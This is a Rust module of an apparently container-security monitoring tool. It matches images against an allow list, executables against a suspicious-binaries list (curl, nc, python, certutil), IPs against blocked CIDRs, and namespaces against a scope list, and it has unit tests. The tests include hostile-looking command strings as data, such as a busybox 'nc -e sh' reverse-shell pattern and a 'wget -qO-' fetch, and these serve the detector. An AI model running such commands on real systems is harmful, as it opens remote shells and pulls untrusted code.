//! The configuration compiled into the questions the analytics ask: is this image
//! trusted, is this binary suspicious, is this destination blocked, is this namespace
//! in scope. Each answer carries the entry that decided it, for the alert's reasons.

use crate::config::Config;
use ipnet::IpNet;
use pullwatch_model::image::glob_match;
use pullwatch_model::{exe_basename, ImageRef};
use std::net::IpAddr;

pub struct Matchers {
    allow: Vec<pullwatch_model::RefPattern>,
    binaries: Vec<String>,
    blocked: Vec<IpNet>,
    namespaces: Vec<String>,
}

/// Why an image is trusted or not.
pub enum Trust<'a> {
    Allowed(&'a str),
    Untrusted,
    Malformed(&'static str),
}

impl Matchers {
    pub fn new(cfg: &Config) -> Matchers {
        let mut blocked: Vec<IpNet> = cfg.outbound_cidr_block_list.iter().map(|c| c.0).collect();
        // Most specific first, so the reason names the narrowest matching entry.
        blocked.sort_by_key(|n| std::cmp::Reverse(n.prefix_len()));
        Matchers {
            allow: cfg
                .image_registry_allow_list
                .iter()
                .map(|p| p.0.clone())
                .collect(),
            binaries: cfg
                .suspicious_binaries
                .iter()
                .map(|b| exe_basename(b.trim()))
                .collect(),
            blocked,
            namespaces: cfg.namespace_scope.clone(),
        }
    }

    pub fn trust(&self, image: &ImageRef) -> Trust<'_> {
        if let Some(p) = image.problem {
            return Trust::Malformed(p);
        }
        match self.allow.iter().find(|p| p.matches(image)) {
            Some(p) => Trust::Allowed(p.as_str()),
            None => Trust::Untrusted,
        }
    }

    pub fn is_trusted(&self, image: &ImageRef) -> bool {
        matches!(self.trust(image), Trust::Allowed(_))
    }

    /// The `suspicious_binaries` entry an executable matches: its basename equals the
    /// entry, or is the entry followed by a version (`python` matches `python3.11`).
    pub fn suspicious_binary(&self, exe: &str) -> Option<&str> {
        let base = exe_basename(exe);
        if base.is_empty() {
            return None;
        }
        self.binaries
            .iter()
            .find(|entry| match base.strip_prefix(entry.as_str()) {
                Some("") => true,
                Some(rest) => {
                    rest.bytes().all(|b| b.is_ascii_digit() || b == b'.')
                        && rest.as_bytes()[0].is_ascii_digit()
                }
                None => false,
            })
            .map(String::as_str)
    }

    /// The `suspicious_binaries` entry a process matches, judged by the program it
    /// runs: a multi-call binary's applet (`pullwatch_model::applet`), otherwise its
    /// executable. Returns the entry and the applet it was judged by, if any.
    pub fn suspicious_process<'c>(
        &self,
        exe: &str,
        cmdline: &'c str,
    ) -> Option<(&str, Option<&'c str>)> {
        match pullwatch_model::applet(exe, cmdline) {
            Some(a) => self.suspicious_binary(a).map(|e| (e, Some(a))),
            None => self.suspicious_binary(exe).map(|e| (e, None)),
        }
    }

    pub fn blocked(&self, ip: IpAddr) -> Option<&IpNet> {
        let ip = match ip {
            IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
            v4 => v4,
        };
        self.blocked.iter().find(|n| n.contains(&ip))
    }

    /// The `namespace_scope` entry a namespace matches.
    pub fn namespace_in_scope(&self, ns: &str) -> Option<&str> {
        self.namespaces
            .iter()
            .find(|p| glob_match(p, ns))
            .map(String::as_str)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn m() -> Matchers {
        let cfg = Config::from_yaml(
            "suspicious_binaries: [curl, python, nc, certutil.exe]\noutbound_cidr_block_list: [203.0.113.0/24, 203.0.113.7]\nnamespace_scope: ['prod-*', default]\n",
            "t",
        )
        .unwrap();
        Matchers::new(&cfg)
    }

    #[test]
    fn binaries_match_basename_and_versions() {
        let m = m();
        assert_eq!(m.suspicious_binary("/usr/bin/curl"), Some("curl"));
        assert_eq!(m.suspicious_binary("/usr/bin/python3.11"), Some("python"));
        assert_eq!(m.suspicious_binary("python3"), Some("python"));
        assert_eq!(
            m.suspicious_binary("C:\\Windows\\System32\\CERTUTIL.EXE"),
            Some("certutil")
        );
        assert_eq!(m.suspicious_binary("CURL"), Some("curl"));
        assert_eq!(m.suspicious_binary("pythonista"), None);
        assert_eq!(m.suspicious_binary("python-config"), None);
        assert_eq!(m.suspicious_binary("ncdu"), None);
        assert_eq!(m.suspicious_binary(""), None);
    }

    #[test]
    fn multi_call_binaries_are_judged_by_their_applet() {
        let m = Matchers::new(&Config::default());
        assert_eq!(m.suspicious_process("/bin/busybox", "ls -l"), None);
        assert_eq!(m.suspicious_process("/bin/busybox", "cat /etc/hosts"), None);
        assert_eq!(
            m.suspicious_process("/bin/busybox", "wget -qO- http://x"),
            Some(("wget", Some("wget")))
        );
        assert_eq!(
            m.suspicious_process("/bin/busybox", "/bin/busybox nc -e sh x 1"),
            Some(("nc", Some("nc")))
        );
        // Known to have run, with nothing to say which applet: the binary's own entry.
        assert_eq!(
            m.suspicious_process("/bin/busybox", ""),
            Some(("busybox", None))
        );
        assert_eq!(
            m.suspicious_process("/usr/bin/curl", "curl http://x"),
            Some(("curl", None))
        );
    }

    #[test]
    fn cidrs_pick_the_narrowest_entry() {
        let m = m();
        assert_eq!(
            m.blocked("203.0.113.7".parse().unwrap())
                .unwrap()
                .to_string(),
            "203.0.113.7/32"
        );
        assert_eq!(
            m.blocked("203.0.113.9".parse().unwrap())
                .unwrap()
                .to_string(),
            "203.0.113.0/24"
        );
        assert_eq!(
            m.blocked("::ffff:203.0.113.9".parse().unwrap())
                .unwrap()
                .to_string(),
            "203.0.113.0/24"
        );
        assert!(m.blocked("8.8.8.8".parse().unwrap()).is_none());
    }

    #[test]
    fn namespaces_glob() {
        let m = m();
        assert_eq!(m.namespace_in_scope("prod-payments"), Some("prod-*"));
        assert_eq!(m.namespace_in_scope("default"), Some("default"));
        assert_eq!(m.namespace_in_scope("staging"), None);
    }
}
